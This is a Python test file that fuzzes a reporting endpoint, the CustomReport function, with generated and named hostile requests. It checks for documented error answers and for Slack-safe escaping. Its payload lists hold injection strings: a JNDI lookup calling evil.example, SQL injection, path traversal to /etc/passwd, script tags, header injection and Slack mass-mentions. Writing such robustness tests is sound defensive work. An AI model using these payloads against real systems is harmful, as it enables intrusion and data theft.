"""/api/CustomReport under fire: generated and named hostile requests through the real main().

The door from the internet must answer every request - valid, malformed or hostile - with 200
or a documented 4xx in the documented shape, never a 5xx, and whatever reaches Slack must be
accepted by it and carry caller text only escaped (`&lt;!channel&gt;`, never `<!channel>`).
"""

from __future__ import annotations

import json
import string
from collections import Counter
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import azure.functions as func
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import CustomReport
from devtools.sample_data import METRIC_EVENTS, OTHER_EVENTS
from devtools.slack_standin import slack_rejection
from shared.web.custom_request import (
    ALLOWED_PARAMETERS,
    BODY_PARAMETERS,
    BOOLEAN_PARAMETERS,
    MAX_BODY_BYTES,
    MAX_SHOWN_CHARS,
    MAX_VALUE_CHARS,
)
from tests.e2e import FUNCTION_KEY, Stack, yesterday
from tests.openapi_check import validate_against_openapi

SAMPLE_EVENTS = METRIC_EVENTS + OTHER_EVENTS  # names the sample project really has
PERIOD_WORDS = ("daily", "weekly", "biweekly", "monthly")
TRUE_WORDS = ("true", "1", "yes", "TRUE", " Yes ")
FALSE_WORDS = ("false", "0", "no", "False", " NO ")
ALLOWED = ", ".join(ALLOWED_PARAMETERS)
ANY = object()  # "not checked" for an expected field
SAFE_METHODS = ("GET", "POST", "get", "post")
OTHER_METHODS = ("PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "CONNECT", "put", "Delete")

# Markup, injection and Unicode trouble a caller can type into any parameter.
NASTY = (
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<script>alert(1)</script>",
    "<@U0123ABC>",
    "<http://evil.example|click me>",
    "&lt;!channel&gt;",
    "*bold* _it_ ~s~ `code`",
    "'; DROP TABLE deliveries; --",
    "../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%00%0d%0aSet-Cookie: a=1",
    "\x1b[31mred",
    "Sign Up\n",
    "Sign Up\r\nReceipt Uploaded",
    "Sign\x00Up",
    "weekly\x00",
    "Sign Up\u2028",
    "\u202eweekly",
    "\ufeffweekly",
    "\ud800",
    "Sign Up\udfff",
    "\uff57\uff45\uff45\uff4b\uff4c\uff59",  # fullwidth 'weekly'
    "\u212aelvin",
    "true\n",
    "",
    " ",
    ",",
    ",,,",
    "Sign Up,,Receipt Uploaded",
    ",".join(f"event {n}" for n in range(201)),
    "x" * 256,
    "2026-02-30",
    "1969-12-31",
    "9999-12-31",
    "0000-01-01",
)
HUGE = st.builds(
    lambda char, n: char * n,
    st.sampled_from(["x", "\u00e9", "<", ",", "\U0001f600", "\x01"]),
    st.sampled_from([MAX_VALUE_CHARS, MAX_VALUE_CHARS + 1, 100_000]),
)
SURROGATES = st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF)
CONTROLS = st.characters(max_codepoint=0x9F).filter(lambda c: not c.isprintable())
SMALL_TEXT = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=40),
    st.text(st.one_of(CONTROLS, SURROGATES, st.characters()), max_size=20),
)
HOSTILE_TEXT = st.one_of(SMALL_TEXT, HUGE)
JSON_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    SMALL_TEXT,
)
HOSTILE_JSON = st.one_of(
    HOSTILE_TEXT,
    st.recursive(
        JSON_SCALARS,
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner),
        max_leaves=8,
    ),
)


def _clip(value: object) -> object:
    """`value` short enough to read in a failure report."""
    if isinstance(value, str | bytes) and len(value) > 80:
        return f"{value[:60]!r}... ({len(value)} long)"
    if isinstance(value, dict):
        return {_clip(k): _clip(v) for k, v in value.items()}
    return value


@dataclass(frozen=True, repr=False)
class Case:
    """One generated request and what the rules promise for it."""

    method: str
    params: dict[str, str]
    body: bytes
    status: int | None  # None: hostile values may happen to be valid, so 200 or 400
    codes: tuple[str, ...] = ()  # the error code is one of these (any when empty)
    field: object = ANY
    message: str | None = None
    fmt: str = "json"
    dry_run: bool = False
    send_slack: bool = True
    events: list[str] | None = None
    kind: str = ""

    def __repr__(self) -> str:
        shown = {k: _clip(v) for k, v in vars(self).items() if k != "field" or v is not ANY}
        return f"Case({shown})"


def shown_field(name: str) -> str:
    """How an error names a caller's parameter: clipped to MAX_SHOWN_CHARS, UTF-8 safe."""
    clipped = name if len(name) <= MAX_SHOWN_CHARS else name[:MAX_SHOWN_CHARS] + "..."
    return clipped.encode("utf-8", "backslashreplace").decode("utf-8")


def _boolean(draw: st.DrawFn, value: bool, *, json_ok: bool) -> object:
    if json_ok and draw(st.booleans()):
        return value
    return draw(st.sampled_from(TRUE_WORDS if value else FALSE_WORDS))


def _spelling(draw: st.DrawFn, word: str) -> str:
    return draw(st.sampled_from([word, word.upper(), word.capitalize(), f" {word} "]))


def _request(draw: st.DrawFn, method: str, values: dict[str, object]) -> tuple[dict, bytes]:
    """GET: every value in the query string. POST: JSON body, string values maybe in the query."""
    query: dict[str, str] = {"code": FUNCTION_KEY} if draw(st.booleans()) else {}
    if method.upper() == "GET":
        return {**query, **{k: str(v) for k, v in values.items()}}, b""
    for name in sorted(values):
        if name not in query and isinstance(values[name], str) and draw(st.booleans()):
            query[name] = str(values.pop(name))
    if not values and draw(st.booleans()):
        return query, b""
    return query, json.dumps(values).encode("utf-8")


@st.composite
def valid_cases(draw: st.DrawFn) -> Case:
    """A request every rule accepts; 1 in 4 is not a dry run, so it builds a real report."""
    today = yesterday().date() + timedelta(days=1)
    method = draw(st.sampled_from(SAFE_METHODS))
    post = method.upper() == "POST"
    dry_run = draw(st.sampled_from([True, True, True, False]))
    send_slack = draw(st.booleans())
    fmt = draw(st.sampled_from([None, "json", "text", "blocks"]))
    events = draw(
        st.none() | st.lists(st.sampled_from(SAMPLE_EVENTS), min_size=1, max_size=4, unique=True)
    )
    values: dict[str, object] = {}
    when = draw(st.sampled_from(["default", "period", "range"]))
    if when == "period":
        values["period"] = _spelling(draw, draw(st.sampled_from(PERIOD_WORDS)))
    elif when == "range":
        last_back = draw(st.integers(1, 60))
        first_back = draw(st.integers(last_back, 60))
        values["from_date"] = (today - timedelta(days=first_back)).isoformat()
        values["to_date"] = (today - timedelta(days=last_back)).isoformat()
    if events is not None:
        if post and draw(st.booleans()):
            values["events"] = list(events)
        else:
            values["events"] = draw(st.sampled_from([",", ", ", " , "])).join(events)
    values["send_slack"] = _boolean(draw, send_slack, json_ok=post)
    if fmt is not None:
        values["format"] = _spelling(draw, fmt)
    if dry_run or draw(st.booleans()):
        values["dry_run"] = _boolean(draw, dry_run, json_ok=post)
    params, body = _request(draw, method, values)
    return Case(
        method,
        params,
        body,
        200,
        fmt=fmt or "json",
        dry_run=dry_run,
        send_slack=send_slack,
        events=events,
        kind="valid",
    )


@st.composite
def hostile_value_cases(draw: st.DrawFn) -> Case:
    """Known parameters with hostile values: text, control characters, huge, any JSON type."""
    method = draw(st.sampled_from(SAFE_METHODS))
    post = method.upper() == "POST"
    names = draw(st.sets(st.sampled_from(ALLOWED_PARAMETERS), min_size=1, max_size=3))
    values: dict[str, object] = {}
    # Mostly dry runs: a hostile value that happens to be valid then costs no report.
    if draw(st.sampled_from([True, True, True, True, False])) or "idempotency_key" in names:
        # idempotency_key is kept to dry runs: the stand-in stack has no AzureWebJobsStorage, so
        # a real post with one is rightly a 503 (test_an_idempotency_key_without_storage_...).
        names.discard("dry_run")
        values["dry_run"] = "true"
    for name in sorted(names):
        values[name] = draw(HOSTILE_JSON if post else HOSTILE_TEXT)
    params, body = _request(draw, method, values)
    return Case(method, params, body, None, kind="hostile value")


@st.composite
def unknown_parameter_cases(draw: st.DrawFn) -> Case:
    """Names the API does not have, next to valid ones: 400 unknown_parameter naming the first."""
    method = draw(st.sampled_from(SAFE_METHODS))
    names = draw(
        st.sets(
            st.one_of(
                st.sampled_from(
                    [
                        "PERIOD",
                        "Period",
                        "period ",
                        "events[]",
                        "send-slack",
                        "<!channel>",
                        "<script>",
                        "\ud800",
                        "",
                        "__proto__",
                        "code\x00",
                        "x" * 200,
                    ]
                ),
                st.text(max_size=30),
            ).filter(lambda name: name not in ALLOWED_PARAMETERS),
            min_size=1,
            max_size=3,
        )
    )
    values: dict[str, object] = {"dry_run": "true"}
    for name in names:
        values[name] = draw(SMALL_TEXT)
    params, body = _request(draw, method, values)
    first = sorted(names)[0]
    return Case(
        method,
        params,
        body,
        400,
        ("unknown_parameter",),
        shown_field(first),
        kind="unknown parameter",
    )


@st.composite
def other_method_cases(draw: st.DrawFn) -> Case:
    """Every method but GET and POST: 405, whatever the parameters and body."""
    method = draw(
        st.sampled_from(OTHER_METHODS)
        | st.text(string.ascii_letters, min_size=1, max_size=8).filter(
            lambda m: m.upper() not in ("GET", "POST")
        )
    )
    params = draw(st.dictionaries(st.sampled_from(ALLOWED_PARAMETERS) | SMALL_TEXT, SMALL_TEXT))
    body = draw(st.binary(max_size=64) | st.just(b'{"period": "weekly"}'))
    return Case(method, params, body, 405, ("method_not_allowed",), None, kind="method")


def _not_json(text: str) -> bool:
    try:
        json.loads(text)
    except ValueError:
        return True
    return False


DEEP_BODIES = (
    b"[" * 2_000 + b"]" * 2_000,
    b"[" * 30_000 + b"]" * 30_000,  # under 64 KiB
    b"[" * 100_000 + b"]" * 100_000,  # over 64 KiB
    b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
)


@st.composite
def garbage_body_cases(draw: st.DrawFn) -> Case:
    """Bodies that are not one JSON object of at most 64 KiB: 400 naming the body."""
    body = draw(
        st.one_of(
            # 0xFF never occurs in UTF-8
            st.builds(lambda a, b: a + b"\xff" + b, st.binary(max_size=40), st.binary(max_size=40)),
            st.text(min_size=1, max_size=60).filter(_not_json).map(str.encode),
            st.sampled_from([b"NaN", b"[Infinity]", b'{"period": NaN}', b"{'period': 'daily'}"]),
            st.recursive(JSON_SCALARS, lambda inner: st.lists(inner, max_size=4), max_leaves=6)
            .filter(lambda v: not isinstance(v, dict))
            .map(lambda v: json.dumps(v).encode()),
            st.sampled_from(DEEP_BODIES),
            st.just(b" " * (MAX_BODY_BYTES + 1) + b"{}"),
            st.just(json.dumps({"events": "x" * MAX_BODY_BYTES}).encode()),
        )
    )
    if draw(st.booleans()):  # the same bytes as a GET body: GET bodies must be empty
        return Case("GET", {}, body, 400, ("invalid_body",), "body", kind="GET body")
    codes = ("invalid_body", "body_too_large")
    return Case("POST", {}, body, 400, codes, "body", kind="garbage body")


WRONG_TYPES = ("null", "1", "-0", "1.5e999", "9" * 5000, "[1]", '{"a": "b"}', '[["Sign Up"]]')


@st.composite
def wrong_json_type_cases(draw: st.DrawFn) -> Case:
    """A JSON type a parameter does not take (numbers of any size too): 400 invalid_type."""
    name = draw(st.sampled_from(BODY_PARAMETERS))
    choices = list(WRONG_TYPES)
    if name not in BOOLEAN_PARAMETERS:
        choices += ["true", "false"]
    if name != "events":
        choices += ["[]", '["Sign Up"]']
    token = draw(st.sampled_from(choices))
    if name in BOOLEAN_PARAMETERS:
        message = f"{name} must be a JSON boolean or a string"
    elif name == "events":
        message = "events must be a string or a list of strings"
    else:
        message = f"{name} must be a string"
    prefix = "" if name == "dry_run" else '"dry_run": true, '
    body = f'{{{prefix}"{name}": {token}}}'.encode()
    return Case("POST", {}, body, 400, ("invalid_type",), name, message, kind="wrong type")


@st.composite
def duplicate_cases(draw: st.DrawFn) -> Case:
    """A parameter given twice (in the body, or in both query and body): 400 naming it."""
    name = draw(st.sampled_from(ALLOWED_PARAMETERS))
    if draw(st.booleans()):
        body = f'{{"{name}": "a", "dry_run": true, "{name}": "b"}}'.encode()
        message = f"parameter '{name}' is given more than once in the body"
        if name == "dry_run":
            body = b'{"dry_run": true, "dry_run": true}'
        codes = ("duplicate_parameter",)
        return Case("POST", {}, body, 400, codes, name, message, kind="duplicate")
    body = json.dumps({name: "a"}).encode()
    message = f"{name} is given both in the query string and the body; give it once"
    return Case(
        "POST", {name: "b"}, body, 400, ("duplicate_parameter",), name, message, kind="duplicate"
    )


# Weights: valid 3, hostile values 3, the fixed-answer kinds 1 or 2 each; about 1 request in
# 14 builds a real report (3 loopback requests each), so 1,000 examples stay well under 90 s.
CASES = st.one_of(
    valid_cases(),
    valid_cases(),
    valid_cases(),
    hostile_value_cases(),
    hostile_value_cases(),
    hostile_value_cases(),
    unknown_parameter_cases(),
    other_method_cases(),
    garbage_body_cases(),
    garbage_body_cases(),
    wrong_json_type_cases(),
    duplicate_cases(),
)


def call(method: str, params: dict[str, str], body: bytes = b"") -> func.HttpResponse:
    """One request through the function's real entry point (a JSON body says it is JSON)."""
    request = func.HttpRequest(
        method=method,
        url="/api/CustomReport",
        params=params,
        body=body,
        headers={"Content-Type": "application/json"} if body else {},
    )
    return CustomReport.main(request)


def check_answer(case: Case, response: func.HttpResponse) -> None:
    """The answer is 200 or a documented 4xx, in the documented shape for what was asked."""
    status = response.status_code
    assert status in (200, 400, 405), f"undocumented status {status}: {response.get_body()[:300]!r}"
    if case.status is not None:
        assert status == case.status, response.get_body()[:300]
    if status != 200:
        assert response.mimetype == "application/json"
        data = json.loads(response.get_body().decode("utf-8"))
        validate_against_openapi("Error", data)
        error = data["error"]
        assert error["code"]
        assert error["message"]
        assert error["field"] is None or isinstance(error["field"], str)
        if status == 405:
            assert (error["code"], error["field"]) == ("method_not_allowed", None)
        if case.codes:
            assert error["code"] in case.codes
        if case.field is not ANY:
            assert error["field"] == case.field
        if case.message is not None:
            assert error["message"] == case.message
        return
    body = response.get_body()
    if case.status is None:  # a hostile request that turned out valid: any documented 200
        if response.mimetype == "text/plain":
            assert body.decode("utf-8")
            return
        data = json.loads(body.decode("utf-8"))
        kind = "Plan" if "dry_run" in data else "ReportResponse" if "report" in data else None
        validate_against_openapi(kind or "BlockKitPayload", data)
        return
    if case.dry_run:
        assert response.mimetype == "application/json"
        plan = json.loads(body.decode("utf-8"))
        validate_against_openapi("Plan", plan)
        assert (plan["format"], plan["send_slack"], plan["events"]) == (
            case.fmt,
            case.send_slack,
            case.events,
        )
    elif case.fmt == "text":
        assert response.mimetype == "text/plain"
        assert body.decode("utf-8").strip()
    elif case.fmt == "blocks":
        assert response.mimetype == "application/json"
        payload = json.loads(body.decode("utf-8"))
        validate_against_openapi("BlockKitPayload", payload)
        assert slack_rejection(payload) is None
    else:
        assert response.mimetype == "application/json"
        data = json.loads(body.decode("utf-8"))
        validate_against_openapi("ReportResponse", data)
        assert data["slack"] == {"posted": case.send_slack, "error": None}


def check_slack(stack: Stack, received_before: int) -> None:
    """Slack accepted every post, and caller text in them is escaped, never live markup."""
    assert stack.slack.rejections == []
    for raw in stack.slack.received[received_before:]:
        post = json.loads(raw)
        for text in (raw.decode("utf-8"), json.dumps(post, ensure_ascii=False)):
            assert "<!channel>" not in text
            assert "<script" not in text.lower()


def test_a_thousand_generated_requests_get_documented_answers(stack: Stack, monkeypatch):
    """1,000+ valid and hostile requests: 200 or a documented 4xx, never 5xx; Slack stays safe."""
    # Every valid request posts: the re-post interval (its own tests) would fold repeats here.
    monkeypatch.setenv("CUSTOM_REPOST_SECONDS", "0")
    tally: Counter[str] = Counter()

    @settings(
        max_examples=1000,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(case=CASES)
    def answer(case: Case) -> None:
        mixpanel_before = len(stack.mixpanel.requests)
        posts_before = len(stack.slack.posts)
        received_before = len(stack.slack.received)
        response = call(case.method, case.params, case.body)
        check_answer(case, response)
        check_slack(stack, received_before)
        posted = len(stack.slack.posts) - posts_before
        if response.status_code != 200:
            assert posted == 0, "a refused request posted to Slack"
        if case.status == 200:
            assert posted == (1 if case.send_slack and not case.dry_run else 0)
        tally["examples"] += 1
        tally[f"status {response.status_code}"] += 1
        tally[case.kind] += 1
        tally["reports"] += len(stack.mixpanel.requests) > mixpanel_before

    answer()
    # The generator really covered every kind of answer (and kept real reports few).
    assert tally["examples"] >= 1000
    assert tally["status 200"] >= 100
    assert tally["status 400"] >= 300
    assert tally["status 405"] >= 20
    assert tally["reports"] >= 20
    assert len(stack.slack.posts) >= 5


# -- the named hostile requests, each with its exact answer ---------------------------

TOO_LONG_IN_QUERY = (
    "must be at most 512 characters in the query string; send longer values in a POST body"
)
MEGABYTE = "x" * 1_000_000


def _nested(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


# (params, method, body, code, field, exact message)
# fmt: off
HOSTILE: list[Any] = [
    pytest.param({"events": "<script>alert(1)</script>"}, "GET", b"", "unknown_event", "events",
                 "unknown Mixpanel event in events: '<script>alert(1)</script>'", id="script-tag"),
    pytest.param({"events": "<!channel>"}, "GET", b"", "unknown_event", "events",
                 "unknown Mixpanel event in events: '<!channel>'", id="channel-mention"),
    pytest.param({"events": "<!channel> Receipt Uplaoded"}, "GET", b"", "unknown_event", "events",
                 "unknown Mixpanel event in events: '<!channel> Receipt Uplaoded' "
                 "(did you mean 'Receipt Uploaded'?)", id="channel-mention-and-typo"),
    pytest.param({"events": MEGABYTE}, "GET", b"", "invalid_parameter", "events",
                 f"events {TOO_LONG_IN_QUERY}", id="1mb-events"),
    pytest.param({"period": MEGABYTE}, "GET", b"", "invalid_parameter", "period",
                 f"period {TOO_LONG_IN_QUERY}", id="1mb-period"),
    pytest.param({"code": MEGABYTE, "format": "xml"}, "GET", b"", "invalid_parameter", "format",
                 "format must be one of json, text, blocks", id="1mb-code-is-not-checked"),
    pytest.param({MEGABYTE: "1"}, "GET", b"", "unknown_parameter", "x" * 64 + "...",
                 f"unknown parameter '{'x' * 64}...'; allowed: {ALLOWED}", id="1mb-name"),
    pytest.param({"from_date": "2026-02-30", "to_date": "2026-03-01"}, "GET", b"",
                 "invalid_date", "from_date", "from_date is not a real calendar date",
                 id="february-30"),
    pytest.param({"send_slack": "maybe"}, "GET", b"", "invalid_boolean", "send_slack",
                 "send_slack must be one of true, false, 1, 0, yes, no", id="send-slack-maybe"),
    pytest.param({"events": "Sign Up\n"}, "GET", b"", "invalid_parameter", "events",
                 "events: name 1 contains a control character", id="newline-in-events"),
    pytest.param({"period": "weekly\x00"}, "GET", b"", "invalid_parameter", "period",
                 "period must not contain NUL characters", id="nul"),
    pytest.param({"events": "\ud800"}, "GET", b"", "invalid_parameter", "events",
                 "events must be valid Unicode text (no lone surrogates)", id="lone-surrogate"),
    pytest.param({"<!channel>": "1"}, "GET", b"", "unknown_parameter", "<!channel>",
                 f"unknown parameter '<!channel>'; allowed: {ALLOWED}", id="channel-as-a-name"),
    pytest.param({}, "POST", b"x" * 1_000_000, "body_too_large", "body",
                 f"body must be at most {MAX_BODY_BYTES} bytes", id="1mb-body"),
    pytest.param({}, "POST", b'{"period": "\xff\xfe"}', "invalid_body", "body",
                 "body is not valid UTF-8", id="non-utf8-body"),
    pytest.param({}, "POST", b'["period", "weekly"]', "invalid_body", "body",
                 "body must be a JSON object", id="json-array-body"),
    pytest.param({}, "POST", _nested(100_000), "body_too_large", "body",
                 f"body must be at most {MAX_BODY_BYTES} bytes", id="nested-100k-deep"),
    pytest.param({}, "POST", _nested(30_000), "invalid_body", "body",
                 "body is nested too deeply to parse", id="nested-30k-deep-under-64kib"),
    pytest.param({}, "POST", b'{"e":' * 10_000 + b"1" + b"}" * 10_000, "invalid_body", "body",
                 "body is nested too deeply to parse", id="nested-objects"),
    pytest.param({}, "POST", b'{"period": ' + b"9" * 5_000 + b"}", "invalid_type", "period",
                 "period must be a string", id="5000-digit-number"),
]
# fmt: on


@pytest.mark.parametrize(("params", "method", "body", "code", "field", "message"), HOSTILE)
def test_hostile_requests_get_a_400_naming_the_field(
    stack: Stack, params, method, body, code, field, message
):
    """Each named hostile request: 400, the exact message and field, nothing posted."""
    response = call(method, {"code": FUNCTION_KEY, **params}, body)
    assert response.status_code == 400
    assert response.mimetype == "application/json"
    data = json.loads(response.get_body().decode("utf-8"))
    validate_against_openapi("Error", data)
    assert data["error"] == {"code": code, "message": message, "field": field}
    assert stack.slack.received == []


def test_hostile_event_names_reach_slack_only_escaped(stack: Stack):
    """With Mixpanel's name list down, unknown names are reported; in Slack they are inert text."""
    # The did-you-mean check needs the name list; without it the caller's names are reported.
    stack.mixpanel.fail_next(503, times=100, retry_after="0", path_prefix="/api/query/events/names")
    events = "<!channel>,<script>alert(1)</script>,<@U0123ABC> <http://evil.example|x>,Sign Up"
    response = call("GET", {"events": events, "send_slack": "true"})
    assert response.status_code == 200
    labels = [m["label"] for m in json.loads(response.get_body())["report"]["metrics"]]
    assert labels == events.split(",")
    assert len(stack.slack.posts) == 1
    check_slack(stack, 0)
    assert "&lt;!channel&gt;" in json.dumps(stack.slack.posts[0])


def test_an_idempotency_key_without_storage_is_a_documented_error(stack: Stack):
    """idempotency_key needs the ledger's storage; without it: 503 saying what the key needs."""
    response = call("GET", {"period": "weekly", "idempotency_key": "weekly-1"})
    data = json.loads(response.get_body())
    validate_against_openapi("Error", data)
    assert response.status_code == 503
    assert data["error"]["code"] == "storage_unavailable"
    assert data["error"]["field"] == "idempotency_key"
    assert data["error"]["side"] == "storage"
    assert "AzureWebJobsStorage" in data["error"]["message"]
    assert "scheduled" not in data["error"]["message"]
    assert stack.slack.posts == []
    assert stack.mixpanel.requests == []  # refused before any report was built
